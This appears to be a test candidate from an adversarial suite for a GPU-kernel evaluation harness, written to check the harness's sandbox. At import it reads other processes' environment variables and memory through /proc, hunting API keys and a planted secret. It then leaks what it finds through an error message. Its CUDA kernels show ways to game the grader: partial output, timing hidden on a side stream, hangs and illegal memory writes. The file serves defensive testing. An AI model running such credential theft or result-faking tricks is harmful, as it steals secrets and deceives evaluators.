# expect: runtime_error
# Reads other processes through /proc: every environment block it can open (API keys, tokens)
# and the memory of the reference session (whose source holds a planted secret),
# at import (in the run worker the reference session is up by then), then fails in forward with
# what it found, so that the verdict's message carries it out. Behind the boundary it is pid 1 of
# its own PID namespace and sees no other process.
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CUDA_SRC = r"""
#include <torch/extension.h>
#include <c10/cuda/CUDAStream.h>
#include <cuda_runtime.h>

// Shared by every CUDA candidate of the adversarial suite, so the suite compiles once.
__global__ void body(const float* in, float* out, int64_t n, float s, long long spin_cycles) {
    int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (i >= n) return;
    if (spin_cycles > 0) {  // optional busy wait: a slow kernel with the same result
        long long start = clock64();
        while (clock64() - start < spin_cycles) {}
    }
    float v = in[i];
    out[i] = (v > 0.f ? v : 0.f) * s + v;
}

__global__ void forever(float* out) {
    while (true) { out[0] += 1.f; }
}

__global__ void bad_address(float* out) {
    float* p = (float*)0x10;
    p[threadIdx.x] = out[0];
}

static void launch(torch::Tensor x, torch::Tensor y, double scale, long long spin, int64_t n, cudaStream_t stream) {
    const int threads = 256;
    const int blocks = (int)((n + threads - 1) / threads);
    body<<<blocks, threads, 0, stream>>>(x.data_ptr<float>(), y.data_ptr<float>(), n, (float)scale, spin);
}

torch::Tensor relu_scale_add(torch::Tensor x, double scale) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    launch(xc, y, scale, 0, xc.numel(), at::cuda::getCurrentCUDAStream());
    return y;
}

// partial computation: only the first half of the output is written
torch::Tensor relu_scale_add_half(torch::Tensor x, double scale) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    launch(xc, y, scale, 0, xc.numel() / 2, at::cuda::getCurrentCUDAStream());
    return y;
}

// slow work on a side stream, returned without waiting: events on the current stream see ~0 ms
torch::Tensor relu_scale_add_side_stream(torch::Tensor x, double scale) {
    static cudaStream_t side = nullptr;
    if (!side) cudaStreamCreateWithFlags(&side, cudaStreamNonBlocking);
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    launch(xc, y, scale, 20000000LL, xc.numel(), side);  // ~10 ms
    return y;
}

torch::Tensor relu_scale_add_slow(torch::Tensor x, double scale) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    launch(xc, y, scale, 20000000LL, xc.numel(), at::cuda::getCurrentCUDAStream());  // ~10 ms
    return y;
}

torch::Tensor hang(torch::Tensor x) {
    forever<<<1, 1, 0, at::cuda::getCurrentCUDAStream()>>>(x.data_ptr<float>());
    return x;
}

torch::Tensor illegal(torch::Tensor x) {
    bad_address<<<1, 32, 0, at::cuda::getCurrentCUDAStream()>>>(x.data_ptr<float>());
    cudaDeviceSynchronize();
    return x;
}
"""
CPP_SRC = r"""
torch::Tensor relu_scale_add(torch::Tensor x, double scale);
torch::Tensor relu_scale_add_half(torch::Tensor x, double scale);
torch::Tensor relu_scale_add_side_stream(torch::Tensor x, double scale);
torch::Tensor relu_scale_add_slow(torch::Tensor x, double scale);
torch::Tensor hang(torch::Tensor x);
torch::Tensor illegal(torch::Tensor x);
"""

ext = load_inline(name="ext", cpp_sources=CPP_SRC, cuda_sources=CUDA_SRC,
                  functions=["relu_scale_add", "relu_scale_add_half", "relu_scale_add_side_stream",
                             "relu_scale_add_slow", "hang", "illegal"])

import os
import re

LOOT = re.compile(rb"(sk-keval-[0-9a-z]{8,}|keval-reference-secret-[0-9a-z]{8,})")


def _steal() -> tuple:
    found, others = set(), 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        others += 1
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found.update(m.decode() for m in LOOT.findall(f.read()))
            with open(f"/proc/{pid}/comm") as f:
                is_reference = f.read().strip() == "keval-ref"
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                is_reference |= b"--_worker\0ref\0" in f.read()
        except OSError:
            continue
        if not is_reference:
            continue
        budget = 256 << 20
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                for line in maps:
                    span, perms = line.split()[:2]
                    start, end = (int(a, 16) for a in span.split("-"))
                    if not perms.startswith("rw") or budget <= 0 or any("secret" in f for f in found):
                        continue
                    for at in range(start, end, 1 << 22):
                        try:
                            mem.seek(at)
                            chunk = mem.read(min(1 << 22, end - at))
                        except OSError:
                            break
                        budget -= len(chunk)
                        found.update(m.decode() for m in LOOT.findall(chunk))
        except OSError:
            pass
    return others, sorted(found)


OTHERS, FOUND = _steal()


class ModelNew(nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        raise RuntimeError(f"saw {OTHERS} other processes; loot: {FOUND}")
